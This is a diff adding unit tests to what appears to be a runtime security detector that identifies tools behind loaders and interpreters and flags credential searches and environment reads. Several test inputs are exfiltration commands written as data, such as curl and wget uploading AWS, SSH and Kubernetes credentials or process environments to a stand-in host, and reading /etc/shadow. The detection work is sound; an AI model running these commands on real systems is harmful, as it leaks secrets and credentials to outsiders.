@@ -59,6 +59,43 @@ TEST(Tool, IsKnownByFileAppletScriptAndModule)
     EXPECT_EQ(name("/usr/bin/true", {}), "true");
 }
 
+TEST(Tool, IsKnownInTheCoreutilsOfSmallImages)
+{
+    const auto tool = [](Words argv) {
+        static ExecBody exec;
+        exec = exec_body("/usr/bin/coreutils", 0, std::move(argv));
+        return detect::tool_of(exec);
+    };
+    EXPECT_EQ(tool({"/usr/bin/printenv", "A"}).name, "printenv");
+    EXPECT_EQ(tool({"coreutils", "cat", "/x"}).name, "cat");
+    EXPECT_EQ(tool({"coreutils", "--coreutils-prog=cat", "/x"}).arguments.front(), "/x");
+    const auto script = tool({"/usr/bin/coreutils", "--coreutils-prog-shebang=id", "/usr/bin/id", "-u"});
+    EXPECT_EQ(script.name, "id");
+    EXPECT_EQ(script.arguments.front(), "-u");
+}
+
+TEST(Tool, IsKnownBehindTheDynamicLoaderAndOptions)
+{
+    const auto name = [](const std::string& path, Words argv) {
+        const ExecBody exec = exec_body(path, 0, std::move(argv));
+        return std::string(detect::tool_of(exec).name);
+    };
+    const std::string loader = "/usr/lib64/ld-linux-x86-64.so.2";
+    EXPECT_EQ(name(loader, {"ld", "/usr/bin/id"}), "id");
+    EXPECT_EQ(name(loader, {"ld", "--library-path", "/lib", "--argv0=x", "/bin/busybox", "wget"}), "wget")
+        << "busybox is called busybox here";
+    EXPECT_EQ(name(loader, {"ld", "--argv0", "x", "/usr/bin/python3", "-m", "pip"}), "pip");
+    EXPECT_EQ(name(loader, {"ld", "--list"}), "ld-linux-x86-64.so.2");
+    EXPECT_EQ(name(loader, {}), "ld-linux-x86-64.so.2");
+    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-W", "ignore", "/usr/bin/aws"}), "aws");
+    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-Im", "pip"}), "pip");
+    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-Ic", "import x"}), "python");
+    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-I", "/app/x.py"}), "x.py") << "takes no value";
+    EXPECT_EQ(name("/usr/bin/node", {"node", "-r", "hook", "/usr/bin/npm", "ci"}), "npm");
+    EXPECT_EQ(name("/usr/bin/php8.2", {"php", "-r", "system('id');"}), "php");
+    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-W"}), "python");
+}
+
 class ShellSpawned : public ToolTest {
 protected:
     ShellSpawned() : ToolTest(detect::make_function_shell_spawned()) {}
@@ -174,6 +211,15 @@ TEST_F(CloudCli, ByFileScriptAndModule)
     EXPECT_THAT(run("/usr/bin/awk", {"awk", "1"}), IsEmpty());
 }
 
+TEST_F(CloudCli, OneToolIsOneFinding)
+{
+    const auto script = run("/usr/bin/dash", {"/bin/sh", "/usr/bin/gcloud", "auth"}, FNS_EXEC_SCRIPT);
+    const auto program = run("/usr/bin/python3.11", {"python3", "-S", "/usr/lib/google-cloud-sdk/lib/gcloud.py"});
+    ASSERT_THAT(script, SizeIs(1));
+    ASSERT_THAT(program, SizeIs(1));
+    EXPECT_EQ(script[0].finding.key, program[0].finding.key);
+}
+
 TEST_F(CloudCli, QuietWhereItBelongs)
 {
     expect_quiet_where_it_belongs("/usr/local/bin/kubectl", {"kubectl", "version"});
@@ -191,6 +237,33 @@ TEST_F(CredentialSearch, SearchesAndReads)
     EXPECT_THAT(run("/bin/busybox", {"find", "/", "-name", "*.pem"}), SizeIs(1));
     EXPECT_THAT(run("/usr/bin/cat", {"cat", "/root/.aws/credentials"}), SizeIs(1));
     EXPECT_THAT(run("/usr/bin/tar", {"tar", "c", "/root/.ssh"}), SizeIs(1));
+}
+
+TEST_F(CredentialSearch, ByEveryToolThatReads)
+{
+    EXPECT_THAT(run("/usr/bin/coreutils", {"/usr/bin/cat", "/root/.aws/credentials"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/ls", {"ls", "-la", "/home/app/.ssh"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/ln", {"ln", "-s", "/root/.netrc", "/app/static/x"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-d", "@/root/.aws/credentials", "https://x.example"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-T", "/root/.kube/config", "https://x.example"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/curl", {"curl", "file:///etc/shadow"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/wget", {"wget", "--post-file=/root/.ssh/id_rsa", "https://x.example"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/perl", {"perl", "-e", "print <>, '/root/.git-credentials'"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-r", "access_token", "/app"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/find", {"find", "/", "-name", "server.KEY"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/find", {"find", "/app", "-name", ".env.production"}), SizeIs(1));
+}
+
+TEST_F(CredentialSearch, QuietForWordsThatOnlyBeginAlike)
+{
+    EXPECT_THAT(run("/usr/bin/find", {"find", "/models", "-name", "tokenizer.json"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-c", "bos", "/models/special_tokens_map.json"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/grep", {"grep", "region", "/app/config.aws.json"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/find", {"find", "/app", "-name", "*.keys", "-o", "-name", "x.environment"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/app/page.kubernetes"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/curl", {"curl", "--netrc-file", "/root/.netrc", "https://x.example"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "/app/.ssh/tool.py", "/root/.ssh"}), IsEmpty())
+        << "a program of the image";
 }
 
 TEST_F(CredentialSearch, QuietForOtherWords)
@@ -218,6 +291,28 @@ TEST_F(EnvironmentRead, ProgramsThatPrintIt)
     EXPECT_THAT(run("/usr/bin/env", {"env"}), SizeIs(1));
     EXPECT_THAT(run("/usr/bin/env", {"env", "-0", "A=1", "-u", "B"}), SizeIs(1));
     EXPECT_THAT(run("/bin/busybox", {"env"}), SizeIs(1));
+}
+
+TEST_F(EnvironmentRead, BySmallImagesPsAndReaders)
+{
+    EXPECT_THAT(run("/usr/bin/coreutils", {"/usr/bin/env"}), SizeIs(1));
+    EXPECT_THAT(run("/lib/ld-musl-x86_64.so.1", {"ld", "/usr/bin/printenv"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/ps", {"ps", "auxeww"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/proc/self/environ"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/tr", {"tr", "x", "y", "/proc/thread-self/environ"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-d@/proc/self/task/1/environ", "https://x.example"}), SizeIs(1));
+    EXPECT_THAT(run("/usr/bin/env", {"env", "-uSi"}), SizeIs(1)) << "Si is a name here";
+}
+
+TEST_F(EnvironmentRead, QuietForOtherWords)
+{
+    EXPECT_THAT(run("/usr/bin/ps", {"ps", "aux"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/ps", {"ps", "-eo", "pid"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/ps", {"ps"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/proc/self/status", "/app/environ"}), IsEmpty());
+    EXPECT_THAT(run("/usr/bin/dash", {"sh", "-c", "cat /proc/self/environ"}), IsEmpty()) << "its cat tells";
+    EXPECT_THAT(run("/usr/bin/env", {"env", "-i"}), IsEmpty()) << "nothing to print";
+    EXPECT_THAT(run("/usr/bin/env", {"env", "-vS", "A=1 node"}), IsEmpty());
 }
 
 TEST_F(EnvironmentRead, QuietForALauncher)
